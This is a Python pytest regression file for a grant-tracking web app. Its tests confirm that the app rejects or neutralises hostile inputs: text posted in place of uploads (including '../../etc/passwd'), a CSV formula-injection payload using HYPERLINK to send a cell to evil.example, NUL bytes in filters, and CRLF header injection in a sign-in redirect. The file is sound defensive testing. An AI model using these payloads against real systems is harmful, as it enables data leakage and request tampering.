"""The bugs the hostile tests found, each pinned by a focused test."""

import io

import pytest
from sqlalchemy import func, select

from tests.conftest import LAMBETH_GRANTEE, OFFICER, csrf_token_from, text_of
from tests.hostile.things import first_return
from tracker.models import EvidenceFile


@pytest.fixture
def upload_folders(app, tmp_path, monkeypatch):
    monkeypatch.setitem(app.config, "UPLOAD_FOLDER", str(tmp_path / "uploads"))
    monkeypatch.setitem(app.config, "IMPORT_FOLDER", str(tmp_path / "imports"))
    return tmp_path


def error_beside_file(response) -> str:
    from tests.reading import error_beside

    return error_beside(response, "file")


@pytest.mark.parametrize("value", [" ", "not a file", "../../etc/passwd"])
def test_text_posted_in_place_of_an_evidence_file_asks_for_a_file(
    signed_in, transaction, upload_folders, value
):
    """Was a 500: wtforms' own FileField took the text, and the view called .read() on it."""
    milestone_return = first_return(transaction)
    grantee = signed_in(LAMBETH_GRANTEE)
    url = f"/returns/{milestone_return.id}/evidence"
    page = grantee.get(url)
    before = transaction.scalar(select(func.count(EvidenceFile.id)))

    response = grantee.client.post(
        url,
        data={
            "csrf_token": csrf_token_from(page),
            "version": str(milestone_return.version),
            "file": value,
        },
        content_type="multipart/form-data",
    )

    assert response.status_code == 200
    assert error_beside_file(response) == "Error: Select a file"
    assert transaction.scalar(select(func.count(EvidenceFile.id))) == before


@pytest.mark.parametrize(
    "content_type", ["multipart/form-data", "application/x-www-form-urlencoded"]
)
def test_text_posted_in_place_of_an_import_file_asks_for_a_file(
    signed_in, transaction, upload_folders, content_type
):
    officer = signed_in(OFFICER)
    page = officer.get("/allocations/import")

    response = officer.client.post(
        "/allocations/import",
        data={"csrf_token": csrf_token_from(page), "file": "stream_code,title"},
        content_type=content_type,
    )

    assert response.status_code == 200
    assert error_beside_file(response) == "Error: Select a CSV or Excel file"
    assert not (upload_folders / "imports").exists() or not any(
        (upload_folders / "imports").iterdir()
    )
    assert "Import allocations" in text_of(response)


def test_a_stream_named_like_a_formula_is_text_in_the_dashboard_figures_csv(signed_in, transaction):
    """Was a formula: the chart figures' CSV wrote names as they were, so a stream called
    =HYPERLINK(...) ran in the spreadsheet of whoever opened the download."""
    import csv as csv_module

    from tests.hostile.posting import example_savepoint
    from tests.hostile.things import stream

    formula = '=HYPERLINK("http://evil.example/?"&A1,"Figures")'
    with example_savepoint(transaction):
        stream(transaction).name = formula
        transaction.commit()

        response = signed_in(OFFICER).get("/dashboards/figures.csv?dashboard=portfolio")

        assert response.status_code == 200
        cells = [
            cell
            for row in csv_module.reader(io.StringIO(response.get_data(as_text=True)))
            for cell in row
        ]
        assert "'" + formula in cells
        assert not any(cell.startswith(("=", "+", "@")) for cell in cells)


@pytest.mark.parametrize("region", ["\x00", "London\x00", "\x1b[31m"])
def test_a_region_filter_with_a_nul_byte_is_not_read_rather_than_sent_to_the_database(
    signed_in, region
):
    """Was a 500 on PostgreSQL, which refuses a NUL in text: the exports read the region from
    the query string and passed it to the query as it was."""
    from urllib.parse import urlencode

    from tests.reading import value_of

    visitor = signed_in(OFFICER)
    query = urlencode({"region": region})

    page = visitor.get(f"/exports?{query}")
    download = visitor.get(f"/exports/allocations.csv?{query}")

    assert page.status_code == 200
    assert value_of(page, "region") in {None, ""}  # shown as not chosen
    assert download.status_code == 400
    assert "There is a problem with your request" in text_of(download)


@pytest.mark.parametrize("next_page", ["/%0D%0AX-Evil:1", "/home%0Aevil", "/%00", "/home%09"])
def test_signing_in_with_a_control_character_in_the_next_page_goes_home(
    app, transaction, next_page
):
    """Was a 500 after a correct password: a line break in ?next= went into the Location
    header, which cannot hold one."""
    from sqlalchemy import func as sql_func

    from tests.conftest import DEMO_PASSWORD, Browser
    from tracker.models import AuditEvent

    visitor = Browser(app.test_client())
    signed_in_before = transaction.scalar(
        select(sql_func.count(AuditEvent.id)).where(AuditEvent.action == "signed in")
    )

    response = visitor.post(
        f"/sign-in?next={next_page}",
        {"email": OFFICER, "password": DEMO_PASSWORD},
        form_page="/sign-in",
    )

    assert response.status_code == 302
    assert response.headers["Location"] == "/home"
    assert "X-Evil" not in response.headers
    assert (
        transaction.scalar(
            select(sql_func.count(AuditEvent.id)).where(AuditEvent.action == "signed in")
        )
        == signed_in_before + 1
    )
